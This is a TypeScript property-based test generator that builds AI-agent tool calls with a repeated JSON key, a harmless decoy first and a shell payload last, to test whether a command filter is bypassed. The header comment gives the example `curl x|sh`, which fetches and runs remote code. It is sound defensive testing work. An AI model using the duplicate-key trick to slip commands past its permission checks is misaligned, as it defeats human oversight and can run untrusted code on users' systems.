/**
 * Inputs that are NOT the same value spelled differently: a repeated key. Go's decoder keeps the
 * last value, so `{"command":"ls","command":"curl x|sh"}` runs `curl x|sh` while a raw-mode regex
 * for `"command":"ls"` sees `ls`. Kept apart from the re-spellings on purpose.
 */
import fc from 'fast-check';
import { type ToolCall, shellCommand, toolName } from './calls.ts';

export interface DuplicateKeyOptions {
  tool?: string | fc.Arbitrary<string>;
  /** The key to repeat (default `command`). */
  key?: string;
  /** The harmless first value (default: a common safe command). */
  decoy?: fc.Arbitrary<string>;
  /** The value Go keeps (default: shell commands). */
  payload?: fc.Arbitrary<string>;
}

/** Calls whose input repeats a key: a decoy first, the payload last; the key is sometimes re-cased. */
export function duplicateKeys(options: DuplicateKeyOptions = {}): fc.Arbitrary<ToolCall> {
  const key = options.key ?? 'command';
  const tool = options.tool === undefined ? toolName() : typeof options.tool === 'string' ? fc.constant(options.tool) : options.tool;
  const decoy = options.decoy ?? fc.constantFrom('ls', 'git status', 'pwd', 'echo hi');
  const payload = options.payload ?? shellCommand();
  const lastKey = fc.constantFrom(key, key.toUpperCase(), key.charAt(0).toUpperCase() + key.slice(1));
  return fc.tuple(tool, decoy, payload, lastKey).map(([t, d, p, k]) => ({
    tool: t,
    input: `{${JSON.stringify(key)}:${JSON.stringify(d)},${JSON.stringify(k)}:${JSON.stringify(p)}}`,
  }));
}
